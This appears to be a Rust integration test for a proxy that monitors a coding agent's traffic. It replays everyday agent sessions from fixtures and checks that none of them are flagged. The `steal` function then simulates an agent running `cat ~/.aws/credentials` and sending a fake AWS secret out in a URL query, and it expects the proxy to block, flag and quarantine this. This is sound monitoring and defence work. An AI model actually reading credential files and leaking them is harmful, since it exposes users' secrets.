//! Everyday sessions of a coding agent, as fixtures in `tests/fixtures/sessions`: each is played through
//! the proxy with its whole conversation, and nothing of it is held, refused or taken for a theft.
//!
//! After each of them something malicious is added, so that a reader that hears nothing shows.

mod wire;

use crate::support::client::{Client, Got, full};
use crate::support::mock::{Options, STAGING_TOKEN};
use crate::support::origin::{Body, Identity, Origin};
use crate::support::policy::Edit;
use crate::support::{Gate, until};
use bytes::Bytes;
use flate2::Compression;
use flate2::write::GzEncoder;
use http_body_util::{BodyExt as _, StreamBody};
use hyper::Response;
use hyper::body::Frame;
use serde::Deserialize;
use serde_json::{Value, json};
use std::collections::{BTreeMap, HashMap};
use std::io::Write as _;
use std::path::Path;
use std::sync::{Arc, Mutex};
use wire::{Call, Model, Turn};

const AGENT: &str = "staging-fixer";
/// Hosts that answer what the fixture says, beside those of models.
const REGISTRIES: &[&str] = &[
    "registry.npmjs.org",
    "pypi.org",
    "files.pythonhosted.org",
    "index.crates.io",
    "static.crates.io",
    "proxy.golang.org",
];
const PAGES: &[&str] = &[
    "docs.rs",
    "docs.python.org",
    "developer.mozilla.org",
    "github.com",
    "raw.githubusercontent.com",
];
const STAGING: &str = "api.staging.railway.app";
const DOCS: &str = "docs.railway.com";

/// One session.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Session {
    /// What it tests, for whoever reads the fixture or sees it fail.
    tests: String,
    #[serde(default)]
    model: Model,
    #[serde(default)]
    http2: bool,
    /// The stages that are noted, in their order.
    #[serde(default)]
    stages: Vec<String>,
    /// What is noted and refuses nothing, as `reason`, in its order.
    #[serde(default)]
    notes: Vec<String>,
    steps: Vec<Step>,
}

/// A turn of the model, or a call of the agent's programs where `send` is there.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Step {
    #[serde(default)]
    say: String,
    #[serde(default)]
    calls: Vec<Call>,
    /// Whether the model's answer is a stream of events.
    #[serde(default)]
    stream: bool,
    /// Whether request and answer are compressed.
    #[serde(default)]
    gzip: bool,
    /// `METHOD https://host/path`.
    send: Option<String>,
    /// With the staging token.
    #[serde(default)]
    token: bool,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    #[serde(default)]
    body: String,
    #[serde(default)]
    answer: Answer,
    /// What the agent gets, where that is another than the answer's.
    status: Option<u16>,
}

/// What the upstream answers with; Railway's own API is the mock and answers by itself.
#[derive(Clone, Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
struct Answer {
    status: Option<u16>,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    #[serde(default)]
    body: String,
}

/// What the upstream does next.
type Next = Arc<Mutex<Option<Response<Body>>>>;

/// A session that is being played.
struct Play {
    gate: Gate,
    next: Next,
    clients: HashMap<String, Client>,
    model: Model,
    http2: bool,
    said: Vec<Turn>,
    sent: usize,
    _origin: Origin,
}

impl Play {
    async fn start(model: Model, http2: bool) -> Self {
        let next = Next::default();
        let coming = next.clone();
        let models = [Model::Anthropic, Model::Chat, Model::Gemini].map(Model::host);
        let hosts: Vec<&str> =
            [&models, REGISTRIES, PAGES, &[STAGING, DOCS]].into_iter().flatten().copied().collect();
        let origin = Origin::http(Identity::named(&hosts), move |request| {
            let coming = coming.clone();
            async move {
                request.into_body().collect().await.unwrap();
                coming.lock().unwrap().take().expect("a request that the fixture does not have")
            }
        })
        .await;
        let gate = Gate::with(Options::default(), |policy| {
            let is_led = |line: &&str| {
                !hosts.iter().any(|host| line.starts_with(&format!("    \"{host}:443\":")))
            };
            let policy: String =
                policy.lines().filter(is_led).flat_map(|line| [line, "\n"]).collect();
            let mut edit = Edit(policy)
                .root(&origin.roots())
                .replace("    resources: [railway-staging]\n", "    resources: [railway-staging, staging-api]\n")
                .replace("    credentials: none\n", "");
            for host in &hosts {
                edit = edit.resolve(&format!("{host}:443"), origin.address);
            }
            let read = |hosts: &[&str]| {
                let hosts = hosts.join(", ");
                format!("hosts: [{hosts}]\nencoded_slash: true\nrules:\n  - {{ allow: GET /**, effect: read }}")
            };
            let conversation = |service: &str| {
                format!("service: {service}\ncredentials: first_seen\nallow: [read, write]")
            };
            edit.resource("packages", &read(REGISTRIES))
                .resource("pages", &read(PAGES))
                .resource("openai", &conversation("openai"))
                .resource("google", &conversation("google"))
                .0
        })
        .await;
        let (clients, said) = (HashMap::new(), Vec::new());
        Self { gate, next, clients, model, http2, said, sent: 0, _origin: origin }
    }

    async fn exchange(
        &mut self,
        host: &str,
        request: http::request::Builder,
        body: Vec<u8>,
    ) -> Got {
        self.sent += 1;
        if !self.clients.contains_key(host) {
            let client = Client::open(self.gate.running(), host, self.http2).await;
            self.clients.insert(host.to_owned(), client);
        }
        let client = self.clients.get_mut(host).unwrap();
        let (parts, ()) = request.body(()).unwrap().into_parts();
        let path = parts.uri.path_and_query().unwrap().as_str();
        let mut built = client.request(parts.method.as_str(), path);
        built.headers_mut().unwrap().extend(parts.headers);
        client.exchange(built.body(full(body)).unwrap()).await
    }

    /// A turn of the model: the results of the last one go there, and the next calls come back.
    async fn turn(&mut self, turn: Turn, streams: bool, zipped: bool) -> Got {
        let (model, number) = (self.model, self.said.len());
        let (kind, body) = if streams {
            ("text/event-stream; charset=utf-8", model.events(number, &turn))
        } else {
            ("application/json", model.answer(number, &turn).to_string())
        };
        let mut answer = Response::builder().header("content-type", kind);
        let mut body = body.into_bytes();
        let mut said = model.request(&self.said, streams).to_string().into_bytes();
        let mut request = http::Request::post(model.path(streams))
            .header("content-type", "application/json")
            .header("accept-encoding", "gzip, deflate, br");
        for (name, value) in model.headers() {
            request = request.header(name, value);
        }
        if zipped {
            (body, said) = (zip(&body), zip(&said));
            answer = answer.header("content-encoding", "gzip");
            request = request.header("content-encoding", "gzip");
        }
        *self.next.lock().unwrap() = Some(answer.body(in_pieces(&body)).unwrap());
        let got = self.exchange(model.host(), request, said).await;
        self.said.push(turn);
        got
    }

    /// A call of a program that the agent runs.
    async fn send(&mut self, step: &Step, asked: &str) -> Got {
        let (method, url) = asked.split_once(' ').unwrap();
        let uri: http::Uri = url.parse().unwrap();
        let mut request = http::Request::builder().method(method);
        request = request.uri(uri.path_and_query().unwrap().as_str());
        for (name, value) in &step.headers {
            request = request.header(name, value);
        }
        if step.token {
            request = request.header("authorization", format!("Bearer {STAGING_TOKEN}"));
        }
        let mut answer = Response::builder().status(step.answer.status.unwrap_or(200));
        for (name, value) in &step.answer.headers {
            answer = answer.header(name, value);
        }
        let body = in_pieces(known(&step.answer.body).as_bytes());
        *self.next.lock().unwrap() = Some(answer.body(body).unwrap());
        let body = known(&step.body).into_bytes();
        self.exchange(uri.host().unwrap(), request, body).await
    }

    /// Where the session stands.
    fn shown(&self) -> Value {
        let output = self.gate.holdgate(&["sessions", "show", AGENT, "--json"]);
        assert!(output.status.success(), "{}", String::from_utf8_lossy(&output.stderr));
        serde_json::from_slice(&output.stdout).unwrap()
    }

    /// The stages that were noted, with what for.
    fn stages(&self) -> Vec<(String, String)> {
        let text = |value: &Value| value.as_str().unwrap().to_owned();
        let told = |one: &Value| (text(&one["stage"]), text(&one["what"]));
        self.shown()["stages"].as_array().unwrap().iter().map(told).collect()
    }

    /// All records, once every request has its outcome.
    fn records(&self) -> Vec<Value> {
        until("every outcome", || {
            let records = self.gate.records();
            let of = |kind: &str| records.iter().filter(|record| record["kind"] == kind).count();
            (of("outcome") == self.sent).then_some(records)
        })
    }
}

/// The token of staging where the fixture names it.
fn known(text: &str) -> String {
    text.replace("${STAGING_TOKEN}", STAGING_TOKEN)
}

fn zip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// A body that comes in pieces which end anywhere.
fn in_pieces(bytes: &[u8]) -> Body {
    let pieces: Vec<_> = bytes
        .chunks(701)
        .map(|piece| Ok::<_, std::convert::Infallible>(Frame::data(Bytes::copy_from_slice(piece))))
        .collect();
    StreamBody::new(futures_util::stream::iter(pieces)).boxed()
}

/// Plays a session; what is wrong with it, if something is.
async fn play(session: &Session) -> Result<Play, String> {
    let mut play = Play::start(session.model, session.http2).await;
    for (number, step) in session.steps.iter().enumerate() {
        let (got, expected) = if let Some(asked) = &step.send {
            let expected = step.status.or(step.answer.status).unwrap_or(200);
            (play.send(step, asked).await, expected)
        } else {
            let mut calls = step.calls.clone();
            for call in &mut calls {
                call.result = known(&call.result);
            }
            let turn = Turn { text: step.say.clone(), calls };
            (play.turn(turn, step.stream, step.gzip).await, 200)
        };
        if got.status.as_u16() != expected {
            return Err(format!("step {number}: {expected} expected: {got:?}"));
        }
    }
    // The results of the last turn go to the model as well.
    let end = Turn { text: "It is done.".to_owned(), calls: Vec::new() };
    let got = play.turn(end, false, false).await;
    if got.status != 200 {
        return Err(format!("the last turn: {got:?}"));
    }
    let mut wrong = Vec::new();
    let mut notes = Vec::new();
    for record in play.records() {
        let findings = record["findings"].as_array().into_iter().flatten();
        notes.extend(findings.map(|one| one["reason"].as_str().unwrap().to_owned()));
        let request = record["kind"] == "request";
        let is_allowed = !request || record["verdict"] == "allow";
        if !is_allowed || matches!(record["kind"].as_str(), Some("hold" | "approval" | "session")) {
            wrong.push(record.to_string());
        }
    }
    if notes != session.notes {
        wrong.push(format!("noted {notes:?}"));
    }
    let stages = play.stages();
    if !stages.iter().map(|(stage, _)| stage).eq(&session.stages) {
        wrong.push(format!("stages {stages:?}"));
    }
    let shown = play.shown();
    if !shown["quarantined"].is_null() || shown["hold_writes"] != false {
        wrong.push(shown.to_string());
    }
    if wrong.is_empty() { Ok(play) } else { Err(wrong.join("\n  ")) }
}

/// The same agent goes on to steal: what it looks for, what it finds and where it sends it all show, and
/// the session ends there.
async fn steal(play: &mut Play, streams: bool) -> Result<(), String> {
    let secret = "pX7wQ2kR9vB4nM6tZ1yL8sD3fG5hJ0cA7eU2iO4x";
    let before = play.stages().len();
    let call = Call {
        tool: "Bash".to_owned(),
        input: json!({ "command": "cat ~/.aws/credentials" }),
        result: format!("[default]\naws_secret_access_key = {secret}\n"),
        image: 0,
        failed: false,
    };
    play.turn(Turn { text: "One more thing.".to_owned(), calls: vec![call] }, streams, false).await;
    let end = Turn { text: "There it is.".to_owned(), calls: Vec::new() };
    play.turn(end, streams, false).await;
    let request = http::Request::get(format!("/guides?ref={secret}"));
    let got = play.exchange(DOCS, request, Vec::new()).await;
    let stages = play.stages();
    let new: Vec<&str> = stages.iter().skip(before).map(|(stage, _)| &**stage).collect();
    let is_over = play.shown()["quarantined"].is_string();
    let expected = ["credential_discovery", "secret_handed_out", "secret_leak"];
    if got.status != 403 || new != expected || !is_over {
        return Err(format!("a theft shows as {new:?}, quarantined: {is_over}, {got:?}"));
    }
    Ok(())
}

fn sessions() -> Vec<(String, Session)> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/sessions");
    let mut all: Vec<(String, Session)> = std::fs::read_dir(folder)
        .unwrap()
        .map(|entry| {
            let path = entry.unwrap().path();
            let name = path.file_stem().unwrap().to_str().unwrap().to_owned();
            let text = std::fs::read_to_string(&path).unwrap();
            let session = serde_saphyr::from_str(&text);
            let session = session.unwrap_or_else(|error| panic!("{name}: {error}"));
            (name, session)
        })
        .collect();
    all.sort_by(|one, other| one.0.cmp(&other.0));
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn everyday_sessions_are_left_alone_and_a_theft_after_them_is_not() {
    let mut wrong = Vec::new();
    let all = sessions();
    for (name, session) in &all {
        let streams = session.steps.iter().any(|step| step.stream);
        let done = match play(session).await {
            Ok(mut played) => steal(&mut played, streams).await,
            Err(told) => Err(told),
        };
        if let Err(told) = done {
            wrong.push(format!("{name} ({}):\n  {told}", session.tests.trim()));
        }
    }
    assert!(wrong.is_empty(), "{} of {}:\n{}", wrong.len(), all.len(), wrong.join("\n"));
}
